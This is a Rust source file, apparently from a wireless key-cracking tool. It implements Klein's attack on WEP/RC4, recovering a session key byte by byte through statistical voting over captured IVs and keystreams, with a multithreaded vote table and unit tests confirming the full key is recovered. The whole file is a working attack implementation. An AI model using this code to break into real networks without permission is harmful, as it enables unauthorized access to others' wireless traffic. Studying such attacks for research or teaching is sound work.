use std::convert::Infallible;
use std::sync::{Arc, Mutex};

use tracing::{debug, info};

use crate::util::{run_worker_pool, WorkerTask};

use super::{
    check_key_len, check_keystream, dedup_captures, AttackError, Capture, KeyByteObserver,
    NopObserver, ReplayState, VoteTable,
};

//Fixed worker pool size, independent of key length
const WORKER_COUNT: usize = 11;

//One capture's guessed session key and its incrementally replayed schedule
struct CaptureState {
    key: Vec<u8>,
    keystream: Vec<u8>,
    state: ReplayState,
}

//Vote table of the refinement round currently being solved, together with
//the byte currently in the lead; both are updated under one lock
struct RoundVotes {
    table: VoteTable,
    best: Option<u8>,
}

///Klein's attack: recovers the key one byte at a time. Every round extends
///each capture's guessed key by the previously confirmed byte, replays only
///that byte, and votes on the next one.
pub struct KleinAttack {
    states: Vec<CaptureState>,
    key_len: usize,
    observer: Arc<dyn KeyByteObserver>,

    found_key: Vec<u8>,
    finished: bool,
}

impl KleinAttack {
    pub fn new(captures: Vec<Capture>, key_len: usize) -> Result<KleinAttack, AttackError> {
        check_key_len(key_len)?;

        let captures = dedup_captures(captures);
        if captures.is_empty() {
            return Err(AttackError::NoCaptures);
        }
        for capture in &captures {
            check_keystream(&capture.keystream, key_len)?;
        }

        info!(captures = captures.len(), key_len, "starting Klein attack");

        let states = captures
            .into_iter()
            .map(|capture| CaptureState {
                key: capture.iv.to_vec(),
                keystream: capture.keystream,
                state: ReplayState::new(),
            })
            .collect();

        Ok(KleinAttack {
            states,
            key_len,
            observer: Arc::new(NopObserver),
            found_key: Vec::with_capacity(key_len),
            finished: false,
        })
    }

    pub fn with_observer(mut self, observer: Arc<dyn KeyByteObserver>) -> KleinAttack {
        self.observer = observer;
        self
    }

    ///Runs the attack to completion; repeated calls return the cached key.
    pub fn find_key(&mut self) -> &[u8] {
        if self.finished {
            return &self.found_key;
        }

        while self.found_key.len() < self.key_len {
            let position = self.found_key.len();
            let last_found = self.found_key.last().copied();
            let shared = Mutex::new(RoundVotes {
                table: VoteTable::new(),
                best: None,
            });

            let observer = &self.observer;
            let chunk_len = self.states.len().div_ceil(WORKER_COUNT);
            let tasks: Vec<WorkerTask<'_, Infallible>> = self
                .states
                .chunks_mut(chunk_len)
                .map(|chunk| {
                    let shared = &shared;
                    Box::new(move || {
                        for capture in chunk {
                            if let Some(byte) = last_found {
                                capture.key.push(byte);
                            }
                            capture.state.advance(&capture.key);
                            let predicted = next_byte_vote(capture);

                            //The increment and the compare-and-update of the
                            //leading byte must happen under one lock
                            let mut round = shared.lock().unwrap();
                            round.table.add(predicted);
                            let leads = match round.best {
                                None => true,
                                Some(best) => {
                                    best != predicted
                                        && round.table.count(predicted) > round.table.count(best)
                                }
                            };
                            if leads {
                                round.best = Some(predicted);
                                observer.on_byte_found(position, predicted);
                            }
                        }
                        Ok(())
                    }) as WorkerTask<'_, Infallible>
                })
                .collect();

            if let Err(never) = run_worker_pool(tasks) {
                match never {}
            }

            let round = shared.into_inner().unwrap();
            //Construction rejects empty capture sets, so a leader exists
            let byte = round.best.unwrap();
            debug!(
                position,
                byte,
                votes = round.table.count(byte),
                "confirmed key byte"
            );
            self.found_key.push(byte);
        }

        self.finished = true;
        self.states = Vec::new();
        info!(key = %hex::encode(&self.found_key), "Klein attack recovered key");

        &self.found_key
    }
}

//Klein's vote for the next key byte, with `i` the guessed key length:
//Si[(i - X[i-1]) mod 256] - (j + S[i])  (mod 256)
fn next_byte_vote(capture: &CaptureState) -> u8 {
    let i = capture.key.len();
    let state = &capture.state;

    let idx = (i as isize - capture.keystream[i - 1] as isize).rem_euclid(256) as usize;
    (state.si[idx] as isize - (state.j + state.s[i] as usize) as isize).rem_euclid(256) as u8
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::keycracker::testdata;
    use crate::wep::min_keystream_len;

    struct Recorder(Mutex<Vec<(usize, u8)>>);

    impl KeyByteObserver for Recorder {
        fn on_byte_found(&self, position: usize, value: u8) {
            self.0.lock().unwrap().push((position, value));
        }
    }

    #[test]
    fn test_recovers_root_key() {
        let captures = testdata::captures_for_key(&testdata::ROOT_KEY, 18);
        let observer = Arc::new(Recorder(Mutex::new(Vec::new())));

        let mut attack = KleinAttack::new(captures, testdata::ROOT_KEY.len())
            .unwrap()
            .with_observer(observer.clone());
        let key = attack.find_key().to_vec();
        assert_eq!(key, testdata::ROOT_KEY);

        //The last reported guess per position must match the final key
        let num_events = {
            let events = observer.0.lock().unwrap();
            for (position, &byte) in key.iter().enumerate() {
                let last = events.iter().rev().find(|(p, _)| *p == position).unwrap().1;
                assert_eq!(last, byte);
            }
            events.len()
        };

        //A second query returns the cached key without re-running workers
        assert_eq!(attack.find_key(), &key[..]);
        assert_eq!(observer.0.lock().unwrap().len(), num_events);
    }

    #[test]
    fn test_rejects_short_keystream() {
        let key_len = 13;
        let mut capture = testdata::capture_for_iv(&testdata::ROOT_KEY, [1, 2, 3, 4]);
        capture.keystream.truncate(min_keystream_len(key_len) - 1);

        assert_eq!(
            KleinAttack::new(vec![capture], key_len).err(),
            Some(AttackError::InsufficientKeystream {
                required: min_keystream_len(key_len),
                actual: min_keystream_len(key_len) - 1,
            })
        );
    }

    #[test]
    fn test_rejects_empty_capture_set() {
        assert_eq!(
            KleinAttack::new(Vec::new(), 13).err(),
            Some(AttackError::NoCaptures)
        );
    }

    #[test]
    fn test_rejects_bad_key_length() {
        assert_eq!(
            KleinAttack::new(Vec::new(), 0).err(),
            Some(AttackError::InvalidKeyLength(0))
        );
        assert_eq!(
            KleinAttack::new(Vec::new(), 253).err(),
            Some(AttackError::InvalidKeyLength(253))
        );
    }
}
